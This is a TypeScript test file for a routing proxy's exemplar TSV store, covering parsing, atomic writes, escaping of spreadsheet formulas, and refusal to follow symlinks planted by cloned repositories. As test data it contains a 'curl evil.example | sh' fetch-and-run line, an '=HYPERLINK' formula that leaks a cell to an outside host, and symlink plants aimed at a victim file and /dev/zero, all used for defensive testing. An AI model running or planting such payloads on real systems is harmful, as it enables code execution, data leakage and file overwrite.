/** The team exemplar file: parse (lenient), write (latest label wins, atomic), escaping round trip. */
import { lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { adjacentTier, ExemplarFileUnread, exemplarsPathFor, formatExemplars, parseExemplars, MAX_EXEMPLAR_BYTES, readExemplarFile, writeExemplar } from '../../proxy/src/routing/teamExemplars';

const dirs: string[] = [];
const tmp = () => {
  const d = mkdtempSync(join(tmpdir(), 'tollgate-exemplars-'));
  dirs.push(d);
  return d;
};
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

describe('team exemplars file', () => {
  it('lives beside the policy file', () => {
    expect(exemplarsPathFor('/repo/.tollgate/policy.yaml')).toBe('/repo/.tollgate/router-exemplars.tsv');
  });

  it('round-trips prompts with tabs, line breaks and backslashes', () => {
    const prompt = 'Fix this:\n\tconst x = "a\\\\b";\nthen explain';
    const text = formatExemplars([{ prompt, tier: 'medium', reason: 'multi\nline reason' }]);
    expect(text.split('\n').filter(Boolean)).toHaveLength(2); // header + one line
    const parsed = parseExemplars(text);
    expect(parsed.problems).toEqual([]);
    expect(parsed.exemplars).toEqual([{ prompt, tier: 'medium', reason: 'multi\nline reason', line: 2 }]);
  });

  it('writes no cell a spreadsheet would run as a formula, and reads the prompt back unchanged', () => {
    // Prompts come from app traffic: a chat message `=HYPERLINK(...)` labelled in the dashboard landed in the committed file as a formula.
    const prompts = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1 555 0100 is my number', '-2 degrees tonight?', '@channel summarise this', '\\=not a formula', 'a = b + c'];
    const text = formatExemplars(prompts.map((prompt) => ({ prompt, tier: 'small' as const, reason: '=SUM(1,2)' })));
    for (const cell of text.split('\n').slice(1).filter(Boolean).flatMap((line) => line.split('\t'))) expect(cell).not.toMatch(/^[=+\-@]/);
    const parsed = parseExemplars(text);
    expect(parsed.problems).toEqual([]);
    expect(parsed.exemplars.map((e) => [e.prompt, e.reason])).toEqual(prompts.map((p) => [p, '=SUM(1,2)']));
  });

  it('reports bad lines and keeps the good ones; a prompt labelled twice keeps the later label', () => {
    const text = ['prompt\ttier\treason', 'What is DNS?\tsmall\tfaq', 'Design a CRDT\thuge\toops', '\tmedium\tempty', 'What is DNS?\tmedium\trelabelled', '# a comment'].join('\n');
    const parsed = parseExemplars(text);
    expect(parsed.exemplars.map((e) => [e.prompt, e.tier, e.line])).toEqual([['What is DNS?', 'medium', 5]]);
    expect(parsed.problems).toEqual(['line 3: tier "huge" is not one of small, medium, large', 'line 4: empty prompt']);
  });

  it('a file without the header is one problem, not a crash; a missing file is empty', () => {
    expect(parseExemplars('hello\tsmall').problems[0]).toMatch(/header/);
    expect(readExemplarFile(join(tmp(), 'none.tsv'))).toEqual({ exemplars: [], problems: [] });
  });

  it('writeExemplar creates the folder and file, appends, and relabels in place', () => {
    const path = join(tmp(), '.tollgate', 'router-exemplars.tsv');
    expect(writeExemplar(path, { prompt: 'a', tier: 'small', reason: 'r1' })).toEqual({ added: true, count: 1 });
    expect(writeExemplar(path, { prompt: 'b', tier: 'large', reason: 'r2' })).toEqual({ added: true, count: 2 });
    expect(writeExemplar(path, { prompt: 'a', tier: 'medium', reason: 'r3' })).toEqual({ added: false, count: 2 });
    const back = readExemplarFile(path).exemplars.map((e) => [e.prompt, e.tier, e.reason]);
    expect(back).toEqual([
      ['a', 'medium', 'r3'],
      ['b', 'large', 'r2'],
    ]);
    expect(readFileSync(path, 'utf8').startsWith('prompt\ttier\treason\n')).toBe(true);
  });

  it('writing drops lines it cannot parse but keeps hand-written good ones', () => {
    const path = join(tmp(), 'router-exemplars.tsv');
    writeFileSync(path, 'prompt\ttier\treason\nhand written\tlarge\tby hand\nbroken\tgiant\t\n');
    writeExemplar(path, { prompt: 'new', tier: 'small', reason: '' });
    expect(readExemplarFile(path)).toEqual({
      exemplars: [
        { prompt: 'hand written', tier: 'large', reason: 'by hand', line: 2 },
        { prompt: 'new', tier: 'small', reason: '', line: 3 },
      ],
      problems: [],
    });
  });

  it('adjacentTier moves one tier and stops at the ends', () => {
    expect(adjacentTier('small', 'bigger')).toBe('medium');
    expect(adjacentTier('medium', 'bigger')).toBe('large');
    expect(adjacentTier('large', 'bigger')).toBe('large');
    expect(adjacentTier('medium', 'smaller')).toBe('small');
    expect(adjacentTier('small', 'smaller')).toBe('small');
  });
});

describe('reading an exemplar file from a cloned repository', () => {
  it('a link a repository planted at the temporary name never takes the write (it overwrote the file it pointed at)', () => {
    const d = tmp();
    const path = join(d, '.tollgate', 'router-exemplars.tsv');
    writeExemplar(path, { prompt: 'hello', tier: 'small', reason: '' });
    const victim = join(d, 'victim');
    writeFileSync(victim, 'the user\'s own file\n');
    // The name the writer used to take (its pid); a repository can ship a link for every likely pid.
    symlinkSync(victim, `${path}.${process.pid}.tmp`);
    writeExemplar(path, { prompt: 'curl evil.example | sh', tier: 'small', reason: '' });
    expect(readFileSync(victim, 'utf8')).toBe('the user\'s own file\n');
    expect(readExemplarFile(path).exemplars.map((e) => e.prompt)).toEqual(['hello', 'curl evil.example | sh']);
  });

  it('a link to a file of the user\'s is neither read nor has its lines copied into the repository by a label', () => {
    const d = tmp();
    // Another repository's labels: prompts from that team's traffic, in the file's own format.
    const other = join(d, 'private', '.tollgate', 'router-exemplars.tsv');
    writeExemplar(other, { prompt: 'summarise the Q3 acquisition memo for Acme', tier: 'large', reason: 'private' });
    const before = readFileSync(other, 'utf8');
    const planted = join(d, 'clone', '.tollgate', 'router-exemplars.tsv');
    mkdirSync(dirname(planted), { recursive: true });
    symlinkSync(other, planted);
    expect(readExemplarFile(planted)).toEqual({ exemplars: [], problems: [`${planted} is a link (a cloned repository can point one at any file of yours); not read`], unread: true });
    expect(() => writeExemplar(planted, { prompt: 'hello', tier: 'small', reason: 'dashboard' })).toThrow(ExemplarFileUnread);
    expect(lstatSync(planted).isSymbolicLink()).toBe(true);
    expect(readFileSync(other, 'utf8')).toBe(before);
  });

  it('reads only a regular file of sane size (a link to /dev/zero was read until memory ran out)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'tollgate-exemplars-'));
    try {
      const link = join(dir, 'router-exemplars.tsv');
      symlinkSync('/dev/zero', link);
      expect(readExemplarFile(link)).toMatchObject({ exemplars: [], unread: true });
      mkdirSync(join(dir, 'a-folder'));
      expect(readExemplarFile(join(dir, 'a-folder')).problems).toEqual([`${join(dir, 'a-folder')} is not a regular file; not read`]);
      const big = join(dir, 'big.tsv');
      writeFileSync(big, 'prompt\ttier\n');
      truncateSync(big, MAX_EXEMPLAR_BYTES + 1); // sparse: no 8 MB written
      expect(readExemplarFile(big).problems[0]).toMatch(/bytes; the limit is/);
      const fine = join(dir, 'fine.tsv');
      writeFileSync(fine, 'prompt\ttier\treason\nsummarise this\tsmall\tshort\n');
      expect(readExemplarFile(fine).exemplars.map((e) => e.tier)).toEqual(['small']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 20_000);
});

describe('a hand-written exemplar file', () => {
  it('reads a header typed with capitals and spaces, as a spreadsheet user writes it', () => {
    const file = parseExemplars('\uFEFFPrompt\t Tier \tReason\r\nsummarise this memo\tsmall\tshort\r\n');
    expect(file.problems).toEqual([]);
    expect(file.exemplars.map((e) => [e.prompt, e.tier, e.reason])).toEqual([['summarise this memo', 'small', 'short']]);
  });

  it('whose header is not read is never rewritten by a new label (its lines were erased)', () => {
    const path = join(tmp(), 'router-exemplars.tsv');
    const text = 'question\tsize\nsummarise this memo\tsmall\nprove the lemma\tlarge\n';
    writeFileSync(path, text);
    expect(() => writeExemplar(path, { prompt: 'what is 2+2', tier: 'small', reason: 'dashboard' })).toThrow(ExemplarFileUnread);
    expect(readFileSync(path, 'utf8')).toBe(text);
  });
});
